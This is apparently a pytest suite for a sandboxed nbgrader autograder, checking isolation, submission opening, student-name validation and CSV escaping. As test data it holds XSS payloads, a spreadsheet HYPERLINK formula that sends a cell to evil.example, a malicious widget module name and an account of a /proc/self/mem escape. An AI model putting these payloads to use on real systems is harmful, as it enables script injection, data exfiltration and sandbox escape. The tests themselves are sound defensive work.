"""The grader outside the kernel, without running a notebook: the sandbox starts from a clone
anywhere (under /tmp, with a space in its path), its refusals say which step failed, messages
over the cap never reach the grader's memory, submissions are opened only when they are one
regular file in their student's folder, nbgrader metadata of any type is read safely, CSV cells
cannot become formulas, and a failed run leaves no grades.csv behind."""

from __future__ import annotations

import asyncio
import os
import re
import shutil
import subprocess
import sys
import tempfile
import textwrap
import threading
from pathlib import Path

import pytest

from grader import homework
from grader import sandbox as sb
from grader import submissions
from grader.submissions import (BAD_STUDENT_NAME, Refused, csv_cell, nbgrader_meta, read_submission, safe_for_teachers,
                                student_folders, valid_student_name)

REPO = Path(__file__).resolve().parents[1]


@pytest.fixture
def clone_under_tmp():
    """A copy of helpers/ and grader/ in a folder under /tmp whose name has a space, as a throwaway checkout."""
    top = Path(tempfile.mkdtemp(prefix="a clone ", dir="/tmp"))
    for package in ("helpers", "grader"):
        shutil.copytree(REPO / package, top / package, ignore=shutil.ignore_patterns("__pycache__"))
    yield top
    shutil.rmtree(top, ignore_errors=True)


@pytest.mark.slow
def test_the_sandbox_works_from_a_clone_under_tmp(clone_under_tmp, sandbox):
    """The grader imports helpers from the clone (python -c puts its folder first), while this
    venv's editable install points at another checkout: the kernel must import the clone's helpers,
    see it read-only, and a write to the clone's folder must not reach the host."""
    top = clone_under_tmp
    inside = textwrap.dedent(f"""
        import helpers
        print("helpers from", helpers.__file__)
        try:
            open({str(top / "pwned.txt")!r}, "w").write("x")
            print("write landed inside the sandbox only")
        except OSError as e:
            print("write failed:", e)
        try:
            open({str(top / "helpers" / "pwned.txt")!r}, "w").write("x")
        except OSError as e:
            print("helpers read-only:", e.strerror)
    """)
    grader = textwrap.dedent(f"""
        import subprocess, sys, shutil
        from grader.sandbox import Limits, _bwrap, check_sandbox, ipc_folder, kernel_env, sandbox_argv
        print("check:", check_sandbox())
        private, ipc = ipc_folder()
        argv = sandbox_argv(ipc, Limits(), _bwrap())
        env = kernel_env(Limits(), "", "")
        argv += [a for k in ("PYTHONPATH", "PATH") for a in ("--setenv", k, env[k])]
        r = subprocess.run([*argv, sys.executable, "-c", {inside!r}], capture_output=True, text=True)
        shutil.rmtree(private)
        print(r.stdout, r.stderr)
    """)
    res = subprocess.run([sys.executable, "-c", grader], cwd=top, capture_output=True, text=True, timeout=120,
                         env={k: v for k, v in os.environ.items() if k != "PYTHONPATH"})
    assert res.returncode == 0, res.stderr
    assert "check: None" in res.stdout, res.stdout
    assert f"helpers from {top / 'helpers' / '__init__.py'}" in res.stdout, res.stdout
    assert "helpers read-only: Read-only file system" in res.stdout, res.stdout
    assert not (top / "pwned.txt").exists() and not (top / "helpers" / "pwned.txt").exists()


@pytest.mark.slow
def test_the_sandbox_has_no_procfs_but_the_cpu_description(sandbox):
    """Round 30: through /proc/self/mem the kernel wrote a built-in's C function and read the run's key. Inside,
    /proc holds only cpuinfo (read-only), which torch needs to use the CPU's vector instructions, as outside."""
    import torch

    from grader.sandbox import Limits, _bwrap, ipc_folder, kernel_env, sandbox_argv

    inside = textwrap.dedent("""
        import os, torch
        print("proc:", sorted(os.listdir("/proc")))
        for path in ("/proc/self/mem", "/proc/1/mem", "/proc/thread-self/mem"):
            try:
                open(path, "rb")
                print("opened", path)
            except OSError as e:
                print("refused", path, e.strerror)
        try:
            open("/proc/x", "w")
        except OSError as e:
            print("write:", e.strerror)
        print("capability:", torch.backends.cpu.get_cpu_capability())
    """)
    private, ipc = ipc_folder()
    try:
        argv = sandbox_argv(ipc, Limits(), _bwrap())
        env = kernel_env(Limits(), "", "")
        argv += [a for k in ("PYTHONPATH", "PATH") for a in ("--setenv", k, env[k])]
        res = subprocess.run([*argv, sys.executable, "-c", inside], capture_output=True, text=True, timeout=120)
    finally:
        shutil.rmtree(private)
    assert res.returncode == 0, res.stderr
    assert "proc: ['cpuinfo']" in res.stdout, res.stdout
    assert "opened" not in res.stdout and res.stdout.count("No such file or directory") == 3, res.stdout
    assert "write: Read-only file system" in res.stdout, res.stdout
    assert f"capability: {torch.backends.cpu.get_cpu_capability()}" in res.stdout, (res.stdout, res.stderr)
    assert "Error in cpuinfo" not in res.stderr, res.stderr


def test_refusal_says_when_bwrap_cannot_make_namespaces(tmp_path, monkeypatch):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv(sb.BWRAP_ENV, str(fake))
    why = sb.check_sandbox()
    assert why.startswith(f"{fake} could not start a sandbox: bwrap: setting up uid map: Permission denied")
    assert "User namespaces may be disabled" in why and "import helpers" not in why


@pytest.mark.slow
def test_refusal_says_when_the_kernel_cannot_import_helpers(tmp_path, monkeypatch, sandbox):
    monkeypatch.setattr(sb, "REPO_ROOT", tmp_path)  # nothing to import there, and nothing bound
    why = sb.check_sandbox()
    assert why.startswith(f"the sandbox starts, but the kernel inside cannot import helpers from {tmp_path}")
    assert "ModuleNotFoundError: No module named 'helpers'" in why and "namespaces" not in why


def test_the_grader_refuses_messages_over_the_cap(tmp_path):
    """The clients of the grader's kernel manager drop a message part over message_bytes at the
    socket (the connection closes) and take a small one; they never reconnect (a socket's path is
    looked up once)."""
    import zmq

    from grader.connect import kernel_manager

    km = kernel_manager([], tmp_path, message_bytes=1 << 20)
    client = km.client()
    assert client.context.getsockopt(zmq.MAXMSGSIZE) == 1 << 20
    assert client.context.getsockopt(zmq.RECONNECT_IVL) == -1
    for session in (client.session, km.session):  # a part of too many JSON objects is refused, unparsed
        with pytest.raises(ValueError, match="not read"):
            session.unpack(b"[" + b"{}," * 100_001 + b"{}]")
    addr = f"ipc://{tmp_path}/pub"

    async def main() -> list:
        pub = zmq.Context.instance().socket(zmq.PUB)
        pub.bind(addr)
        sub = client.context.socket(zmq.SUB)  # as jupyter_client makes its channels' sockets
        sub.setsockopt(zmq.SUBSCRIBE, b"")
        sub.connect(addr)

        async def receive(size: int) -> int | None:
            for _ in range(30):  # PUB drops messages until the SUB has joined
                pub.send(b"x" * size)
                try:
                    return len(await asyncio.wait_for(sub.recv(), 0.1))
                except asyncio.TimeoutError:
                    pass
            return None

        try:
            return [await receive(size) for size in (10, 10, 4 << 20)]
        finally:
            sub.close(0)
            pub.close(0)

    got = []
    runner = threading.Thread(target=lambda: got.extend(asyncio.run(main())))  # its own event loop
    runner.start()
    runner.join()
    client.context.term()
    assert got == [10, 10, None], got  # the big one never arrives


def test_the_manager_connects_only_to_real_sockets(tmp_path):
    """A socket swapped for a link (to one of the host's sockets) is refused before any connection,
    and one that never appears is reported, not waited for forever."""
    import socket

    from concurrent.futures import ThreadPoolExecutor

    from grader.connect import _sockets_ready

    def ready(paths, wait):  # in a thread of its own, as the grader runs (the session's browser runs a loop here)
        with ThreadPoolExecutor(max_workers=1) as pool:
            return pool.submit(asyncio.run, _sockets_ready(paths, wait=wait)).result()

    real = socket.socket(socket.AF_UNIX)
    real.bind(str(tmp_path / "k-1"))
    (tmp_path / "k-2").symlink_to(tmp_path / "k-1")
    try:
        ready([str(tmp_path / "k-1")], 1)  # a socket: fine
        with pytest.raises(sb.SandboxUnavailable, match=r"k-2 is not a socket .*not connecting"):
            ready([str(tmp_path / "k-1"), str(tmp_path / "k-2")], 1)
        with pytest.raises(sb.SandboxUnavailable, match=r"did not open its socket .*k-3 within 0 s"):
            ready([str(tmp_path / "k-3")], 0.2)
    finally:
        real.close()


# ---------------------------------------------------------------- opening a submission
NAME = "00_tiny.ipynb"


def _folder(tmp_path: Path, name: str = "alice") -> Path:
    (tmp_path / "subs" / name).mkdir(parents=True)
    return tmp_path / "subs" / name


def test_a_regular_file_is_read(tmp_path):
    f = _folder(tmp_path)
    (f / NAME).write_text("{}")
    assert read_submission(f, NAME) == b"{}"
    with pytest.raises(FileNotFoundError):
        read_submission(f, "01_other.ipynb")


@pytest.mark.parametrize("kind, reason", [
    ("symlink", "submission is a symbolic link: it is not followed"),
    ("dangling", "submission is a symbolic link: it is not followed"),
    ("hardlink", "submission is a hard link (2 names for one file): hand in a copy"),
    ("fifo", "submission is a FIFO: it is not followed"),
    ("folder", "submission is a folder: it is not followed"),
])
def test_links_fifos_and_folders_are_refused_unopened(tmp_path, kind, reason):
    f = _folder(tmp_path)
    secret = tmp_path / "teacher.ipynb"
    secret.write_text("{ solutions }")
    make = {"symlink": lambda p: p.symlink_to(secret), "dangling": lambda p: p.symlink_to(tmp_path / "gone"),
            "hardlink": lambda p: p.hardlink_to(secret), "fifo": os.mkfifo, "folder": os.mkdir}
    make[kind](f / NAME)
    with pytest.raises(Refused) as e:  # a FIFO opened for reading would block: it is never opened
        read_submission(f, NAME)
    assert str(e.value) == reason


def test_a_linked_or_badly_named_student_folder_is_refused(tmp_path):
    alice = _folder(tmp_path)
    (alice / NAME).write_text("{}")
    (tmp_path / "subs" / "mallory").symlink_to(alice)
    with pytest.raises(Refused, match="the student folder is a symbolic link"):
        read_submission(tmp_path / "subs" / "mallory", NAME)
    bad = Path(os.fsdecode(os.fsencode(tmp_path / "subs") + b"/x\xff"))
    bad.mkdir()
    with pytest.raises(Refused, match="not valid UTF-8"):
        read_submission(bad, NAME)
    (tmp_path / "subs" / ".ipynb_checkpoints").mkdir()  # JupyterLab's, when a teacher opens handed_in/: no student
    assert [s for s, _ in student_folders(tmp_path / "subs")] == ["alice", "mallory", "x\\xff"]


# folder names that would reach nbgrader's pages (which show the student id unescaped) as markup,
# split a CSV cell or a command line, or hide the folder; and names of real students
REFUSED_NAMES = ["<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "a b", "=1+1", "x;y", "a&b", "a\\b",
                 ".hidden", "-rf", "ann\u202egnp", "tab\tname", "bob\u00a0"]
ACCEPTED_NAMES = ["alice", "Zoë_2", "Zoe\u0308", "a.b@c-d", "李雷", "Ωmega", "s1234567", "_x"]


@pytest.mark.parametrize("name", REFUSED_NAMES + ACCEPTED_NAMES)
def test_a_student_folder_whose_name_is_no_plain_id_is_refused(tmp_path, name):
    """The folder's name becomes the student's id in nbgrader's gradebook, and formgrader puts that
    id into its pages unescaped: only letters and digits of any script, '.', '_', '@' and '-'."""
    folder = _folder(tmp_path, name)
    (folder / NAME).write_text("{}")
    assert valid_student_name(name) == (name in ACCEPTED_NAMES)
    if name in ACCEPTED_NAMES:
        assert read_submission(folder, NAME) == b"{}"
    else:
        with pytest.raises(Refused) as e:
            read_submission(folder, NAME)
        assert str(e.value) == BAD_STUDENT_NAME
    listed = [] if name.startswith(".") else [name]  # a hidden folder is no student; any other is listed all
    assert [s for s, _ in student_folders(tmp_path / "subs")] == listed  # the same: its rows say why


def test_the_gradebook_never_gets_a_refused_name(tmp_path, monkeypatch):
    """Whatever the rows say, a refused folder's name never reaches nbgrader's gradebook."""
    from grader import gradebook
    from grader.submissions import Row, Status

    rows = [Row(name, "00_x", "ex1", 0, 1, Status.REFUSED, (BAD_STUDENT_NAME,)) for name in REFUSED_NAMES]
    rows += [Row(name, "00_x", "ex1", 1, 1, Status.PASSED) for name in REFUSED_NAMES[:2]]  # as if graded
    rows += [Row("alice", "00_x", "ex1", 1, 1, Status.PASSED), Row("Zoë_2", "00_x", "ex1", 0, 1, Status.REFUSED,
                                                                   ("submission is a FIFO: it is not followed",))]
    assert gradebook._handed_in(rows) == [("alice", "00_x"), ("Zoë_2", "00_x")]
    students = []

    class Gradebook:  # nbgrader's, as far as _record uses it: what it is asked to store
        def __init__(self, url):
            self.db = self

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return False

        def update_or_create_student(self, student):
            students.append(student)

        def find_grade(self, *a):
            return type("Grade", (), {})()

        def remove_submission(self, *a):
            pass

        add_submission = commit = rollback = remove_submission

    import nbgrader.api

    monkeypatch.setattr(nbgrader.api, "Gradebook", Gradebook)
    (tmp_path / "gradebook.db").write_bytes(b"")
    assert gradebook._record(tmp_path / "gradebook.db", rows, {}) == rows
    assert students == ["alice", "Zoë_2"]


def test_the_teachers_copy_keeps_no_widget_state():
    """Saved widget state makes nbconvert's templates load a widget manager that fetches and runs
    the module each widget names (the student's choice): the copy a teacher renders has none."""
    import nbformat

    state = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {
        "a1": {"model_name": "PwnModel", "model_module": "evil-widget", "model_module_version": "1.0.0", "state": {}}}}}
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# hi")], metadata={"widgets": state})
    safe = safe_for_teachers(nb)
    assert "widgets" not in safe.metadata and safe.cells[0].source == "# hi"
    assert nb.metadata.widgets == state  # the student's notebook itself is left alone
    from nbconvert import HTMLExporter

    exporter = HTMLExporter(template_name="classic")
    assert "evil-widget" in exporter.from_notebook_node(nb)[0]  # the state as the student saved it: rendered
    assert "evil-widget" not in exporter.from_notebook_node(safe)[0]


def test_an_oversized_submission_is_refused(tmp_path, monkeypatch):
    f = _folder(tmp_path)
    (f / NAME).write_bytes(b" " * 101)
    monkeypatch.setattr(submissions, "MAX_SUBMISSION_BYTES", 100)
    with pytest.raises(Refused, match="101 bytes, over the limit of 100"):
        read_submission(f, NAME)


# ---------------------------------------------------------------- metadata and the CSV
@pytest.mark.parametrize("meta, want", [
    ({"nbgrader": "x"}, {}),
    ({"nbgrader": None}, {}),
    ({"nbgrader": [1]}, {}),
    ("not a dict", {}),
    ({"nbgrader": {"grade": True, "grade_id": ["a", "b"], "points": "many"}}, {"grade": True, "points": 0.0}),
    ({"nbgrader": {"grade": "yes", "solution": 1, "grade_id": "ex1", "points": 2}},
     {"grade": False, "solution": False, "grade_id": "ex1", "points": 2.0}),
    ({"nbgrader": {"points": float("nan"), "grade_id": {"x": 1}}}, {"points": 0.0}),
])
def test_nbgrader_metadata_of_any_type_is_read_safely(meta, want):
    assert nbgrader_meta({"cell_type": "code", "metadata": meta, "source": ""}) == want


def test_every_reader_of_nbgrader_metadata_uses_the_one_function():
    """The grader and the notebook check interpret nbgrader metadata through nbgrader_meta only
    (prepare copies the teacher's own metadata whole; the book reads the series' own notebooks,
    never a submission)."""
    users = [p.name for p in [*REPO.glob("helpers/**/*.py"), *REPO.glob("grader/*.py"), REPO / "conftest.py"]
             for text in [p.read_text().replace('raw = meta.get("nbgrader")', "")]
             if '.get("nbgrader"' in text]
    assert users == [], users


@pytest.mark.parametrize("text, want", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click here")', '\'=HYPERLINK("http://evil.example/?"&A1,"click here")'),
    ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("AssertionError: = 2", "AssertionError: = 2"), ("", ""), ("a;=1", "a;'=1"), ("x,-1\n@y", "x,'-1\n'@y"),
])
def test_csv_cells_never_start_a_formula(text, want):
    assert csv_cell(text) == want


def test_no_piece_of_a_csv_cell_starts_a_formula_whatever_the_separator(tmp_path):
    """A spreadsheet whose list separator is ';' splits the comma-separated file at every ';', quoted
    or not ('a;=HYPERLINK(...)' in a reason became a formula cell): read back with ',', ';', tab or '|'
    as the separator, no piece starts a formula, and with ',' every cell reads back whole."""
    import csv
    from grader.submissions import Row, Status, write_csv
    out = tmp_path / "grades.csv"
    write_csv([Row("ann;=1+1", "00_x", "ex1;+2", 0, 1, Status.FAILED, ("AssertionError: a;=HYPERLINK(1)",))], out)
    lines = out.read_text(encoding="utf-8").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines), lines
    for sep in (",", ";", "\t", "|"):
        for row in csv.reader(lines, delimiter=sep):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), (sep, row)
    assert next(csv.reader(lines[1:])) == ["ann;'=1+1", "00_x", "ex1;'+2", "0", "1", "AssertionError: a;'=HYPERLINK(1)"]


def test_a_failed_run_leaves_no_stale_grades_csv(tmp_path, monkeypatch):
    (tmp_path / "subs" / "alice").mkdir(parents=True)
    out = tmp_path / "grades.csv"
    out.write_text("student,notebook,exercise,points,max_points,reason\nalice,00,ex1,1,1,\n")

    def broken(*a, **k):
        raise RuntimeError("nbgrader broke")

    monkeypatch.setattr(homework, "make_student", broken)
    with pytest.raises(RuntimeError, match="nbgrader broke"):
        homework.autograde(tmp_path / "subs", out, build=tmp_path / "build", unsafe=True)
    assert not out.exists(), "the previous run's grades.csv is still there, looking current"
    out.write_text("student,notebook,exercise,points,max_points,reason\nalice,00,ex1,1,1,\n")
    monkeypatch.setattr(homework, "check_sandbox", lambda limits: "bwrap is missing")
    with pytest.raises(homework.SandboxUnavailable, match="bwrap is missing"):  # refused before it starts
        homework.autograde(tmp_path / "subs", out, build=tmp_path / "build")
    assert not out.exists(), "a refused run left the previous run's grades.csv, looking current"


def test_the_kernel_may_read_every_data_folder_the_notebooks_use():
    """Checkpoints and notebook 03's corpus are read-only inside the sandbox (a folder missing
    here makes a right answer fail at grading time, as the text section's would have)."""
    allowed = set(sb._readonly_paths())
    for folder in sorted(p for p in (REPO / "data").iterdir() if p.is_dir() and p.name != "pokemon"):
        assert folder.resolve() in allowed, f"data/{folder.name} is not readable in the sandbox"


def test_every_repository_file_a_notebook_reads_is_in_the_sandbox_and_the_zip():
    """A notebook that reads a file of the repository outside helpers/ and data/ (08 reads the bench's
    gan_modes results) must find it at grading time and in the student zip: NOTEBOOK_READS names them."""
    reads = set()
    for py in sorted((REPO / "notebooks").glob("[0-9][0-9]_*.py")):
        code = "\n".join(line for line in py.read_text().splitlines() if not line.startswith("#"))
        for chain in re.findall(r"parents\[1\]\)?((?:\s*/\s*\"[^\"]+\")+)", code):
            reads.add("/".join(re.findall(r"\"([^\"]+)\"", chain)))
    assert "benchmarks/latest.json" in reads, "the scan finds 08's read of the bench results"
    outside = {r for r in reads if r.split("/")[0] not in ("helpers", "data")}
    assert outside <= set(sb.NOTEBOOK_READS), f"add {sorted(outside - set(sb.NOTEBOOK_READS))} to NOTEBOOK_READS"
    allowed = set(sb._readonly_paths())
    for name in sb.NOTEBOOK_READS:
        assert (REPO / name).resolve() in allowed, f"{name} is not readable in the sandbox"
    assert set(sb.NOTEBOOK_READS) <= set(homework.STUDENT_FILES), "the student zip ships them too"


@pytest.mark.slow
def test_refusal_says_when_the_grader_cannot_reach_the_sandbox_sockets(monkeypatch, sandbox):
    """The kernel's sockets are in the sandbox's own tmpfs, reached through /proc/PID/root: where that
    fails (here: the grader looks in its own root, where the socket is not), check_sandbox says so."""
    monkeypatch.setattr(sb, "_wait_for_child", lambda pid, wait=30.0: os.getpid())
    monkeypatch.setattr(sb, "PROBE_SECONDS", 2)
    why = sb.check_sandbox()
    assert why and "cannot reach a socket inside the sandbox" in why and "hidepid" in why, why
